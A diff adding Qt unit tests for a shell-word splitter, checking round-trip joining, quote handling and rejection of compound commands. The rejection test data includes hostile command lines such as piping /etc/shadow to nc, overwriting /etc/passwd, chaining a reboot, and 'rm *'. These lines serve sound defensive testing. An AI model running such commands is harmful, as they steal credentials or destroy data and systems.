@@ -57,6 +57,45 @@ private Q_SLOTS:
         QCOMPARE(QString::fromUtf8(sh.readAllStandardOutput()), expected);
     }
 
+    void splittingInvertsJoining_data() { shellSeesTheOriginalArguments_data(); }
+    void splittingInvertsJoining()
+    {
+        QFETCH(QStringList, argv);
+        const ShellWords words = splitShellWords(shellJoin(argv).text);
+        QVERIFY2(words.ok(), qPrintable(words.error));
+        QCOMPARE(words.words, argv);
+    }
+
+    void splittingRefusesCompoundCommands_data()
+    {
+        QTest::addColumn<QString>("line");
+        QTest::newRow("sequence") << "postqueue -j; reboot";
+        QTest::newRow("pipe") << "cat /etc/shadow | nc host 1";
+        QTest::newRow("substitution") << "echo $(id)";
+        QTest::newRow("backquote") << "echo `id`";
+        QTest::newRow("variable") << "echo $HOME";
+        QTest::newRow("expansion in double quotes") << "echo \"$(id)\"";
+        QTest::newRow("redirect") << "echo x > /etc/passwd";
+        QTest::newRow("background") << "sleep 1 &";
+        QTest::newRow("glob") << "rm *";
+        QTest::newRow("newline") << "true\nreboot";
+        QTest::newRow("unterminated") << "echo 'abc";
+        QTest::newRow("empty") << "   ";
+    }
+    void splittingRefusesCompoundCommands()
+    {
+        QFETCH(QString, line);
+        const ShellWords words = splitShellWords(line);
+        QVERIFY(!words.ok());
+        QVERIFY(words.words.isEmpty());
+    }
+
+    void splittingHandlesDoubleQuotesAndEscapes()
+    {
+        QCOMPARE(splitShellWords(u"a \"b c\" d\\ e 'f\"g'").words,
+                 (QStringList{"a", "b c", "d e", "f\"g"}));
+    }
+
     void refusesWhatCannotBeQuoted()
     {
         QVERIFY(!shellJoin({}).ok());
